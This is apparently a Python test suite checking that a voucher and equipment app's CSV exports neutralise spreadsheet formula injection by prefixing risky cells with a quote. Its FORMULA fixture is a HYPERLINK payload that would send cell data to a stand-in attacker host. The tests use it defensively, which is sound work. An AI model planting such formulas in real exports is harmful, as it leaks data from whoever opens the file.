"""No CSV a person downloads can run a formula in their spreadsheet (OWASP "CSV Injection").

Text typed by someone (an imported inventory, a print run's label, a payment reference, or a name
saved before names were checked) that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return comes out of every people's export with a single quote in front: Excel shows it, never
runs it. One test per export; the inventory import reads its own export back unchanged.
"""

from __future__ import annotations

import csv
import io

from equipment.tables import Item
from organisations.tables import Organisation
from passnum.csvout import BOM, FrenchExcel
from reimbursements.statements import build_statements
from reimbursements.tables import Statement
from tests.factories import login
from tests.reimbursements.test_credit_notes import AFTER_GRACE, expired_print_runs
from tests.reimbursements.test_statements import MARCH
from tests.reporting.dataset import Dataset, generate, make_batch, make_booklet
from tests.reporting.fleet import generate_fleet
from vouchers.tables import Batch

FORMULA = '=HYPERLINK("http://pirate.test/?"&A1;"Cliquez ici")'
SAFE = "'" + FORMULA

INVENTORY = (
    "type;marque;modele;numero_serie;numero_inventaire;valeur_declaree;accessoires;date_achat;"
    "statut;notes\r\n"
    f'tablette;"{FORMULA.replace(chr(34), chr(34) * 2)}";+33 2 33;SN-F1;;229,90;'
    "@chargeur, housse;15/03/2024;;-2+3\r\n"
    "ordinateur portable;Lenovo;ThinkPad E14;SN-F2;;1 099,00;chargeur;01/09/2023;;\r\n"
)


def rows_of(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(BOM.encode())
    header, *rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), FrenchExcel)
    return [dict(zip(header, row, strict=True)) for row in rows]


async def import_inventory(client, world, content: bytes) -> dict:
    headers = {**await world.staff.bearer(), "Content-Type": "text/csv"}
    response = await client.post("/api/v1/inventory/import", content=content, headers=headers)
    assert response.status_code == 200, response.text
    return response.json()


async def test_inventory_export_neutralises_imported_formulas_and_imports_back_unchanged(
    client, world
) -> None:
    await import_inventory(client, world, INVENTORY.encode())
    bearer = await world.staff.bearer()
    exported = (await client.get("/api/v1/inventory/export.csv", headers=bearer)).content
    tablet = next(r for r in rows_of(exported) if r["numero_serie"] == "SN-F1")
    assert tablet["marque"] == SAFE
    assert (tablet["modele"], tablet["notes"]) == ("'+33 2 33", "'-2+3")
    assert tablet["accessoires"] == "'@chargeur, housse"
    assert tablet["valeur_declaree"] == "229,90"
    await login(client, world.staff)
    assert (await client.get("/equipment/inventaire.csv")).content == exported

    # The database keeps what was typed; the file read back in gives the same inventory.
    stored = await Item.select(Item.brand, Item.notes).where(Item.serial == "SN-F1").first()
    assert stored == {"brand": FORMULA, "notes": "-2+3"}
    await Item.delete(force=True)
    assert (await import_inventory(client, world, exported))["imported"] == 2
    again = (await client.get("/api/v1/inventory/export.csv", headers=bearer)).content
    assert again == exported


async def test_items_statistics_export_neutralises_imported_formulas(client, world) -> None:
    await import_inventory(client, world, INVENTORY.encode())
    await login(client, world.staff)
    rows = rows_of((await client.get("/statistiques/exports/items.csv")).content)
    tablet = next(r for r in rows if r["numero_serie"] == "SN-F1")
    assert (tablet["marque"], tablet["modele"]) == (SAFE, "'+33 2 33")
    assert tablet["valeur_euros"] == "229,90"


async def test_loans_export_neutralises_a_borrowers_name(client, world) -> None:
    await generate_fleet(world.borrower_id)
    await Organisation.update({Organisation.name: FORMULA}).where(
        Organisation.id == world.borrower_id
    )
    await login(client, world.staff)
    rows = rows_of((await client.get("/statistiques/exports/loans.csv")).content)
    assert rows and {r["emprunteur"] for r in rows} == {SAFE}


async def test_redemptions_export_neutralises_a_sites_name(client, world) -> None:
    await generate(world, booklets=20)
    await Organisation.update({Organisation.name: FORMULA}).where(Organisation.id == world.site_id)
    await login(client, world.staff)
    rows = rows_of((await client.get("/statistiques/exports/redemptions.csv")).content)
    assert SAFE in {r["lieu"] for r in rows}
    assert not any(value.startswith("=") for r in rows for value in r.values())


async def test_booklets_export_neutralises_a_print_runs_label(client, world) -> None:
    batch = await make_batch(world.funder_id, label=FORMULA)
    await make_booklet(Dataset(), batch, world.funder_id, 1000, world.prescriber_org_id, None)
    await login(client, world.funder)
    rows = rows_of((await client.get("/statistiques/exports/booklets.csv")).content)
    assert [r["tirage"] for r in rows] == [SAFE]


async def test_statements_export_neutralises_a_payment_reference(client, world) -> None:
    await generate(world, booklets=20)
    await build_statements(MARCH)
    await Statement.update({Statement.payment_reference: "-VIR 2026/03"}, force=True)
    await login(client, world.staff)
    rows = rows_of((await client.get("/statistiques/exports/statements.csv")).content)
    assert rows and {r["reference"] for r in rows} == {"'-VIR 2026/03"}


async def test_a_sites_statement_csv_neutralises_a_funders_name(client, world) -> None:
    await generate(world, booklets=30)
    await build_statements(MARCH)
    await Organisation.update({Organisation.name: "@CAF"}).where(Organisation.id == world.funder_id)
    own = await Statement.objects().where(Statement.site == world.site_id).first()
    await login(client, world.site_agent)
    rows = rows_of((await client.get(f"/releves/{own.id}/csv")).content)
    assert "'@CAF" in {r["financeur"] for r in rows}
    assert all(not r["financeur"].startswith("@") for r in rows)
    assert all("," in r["valeur_euros"] for r in rows)


async def test_a_credit_note_csv_neutralises_a_print_runs_label(client, world, clock_at) -> None:
    clock_at(AFTER_GRACE)
    data = await expired_print_runs(world)
    batch_id = data.booklets[0].batch_id
    await Batch.update({Batch.label: "+CAF 2025"}).where(Batch.label == "CAF 2025")
    staff = await world.staff.bearer()
    await client.post(f"/api/v1/joint-statements/{batch_id}", headers=staff)
    await client.post(f"/api/v1/joint-statements/{batch_id}/agree", headers=staff)
    note = await client.post(f"/api/v1/joint-statements/{batch_id}/credit-note", headers=staff)
    await login(client, world.funder)
    rows = rows_of((await client.get(f"/avoirs/{note.json()['id']}/csv")).content)
    assert [r["tirage"] for r in rows] == ["'+CAF 2025"]
    assert rows[0]["montant_euros"] == "330,00"
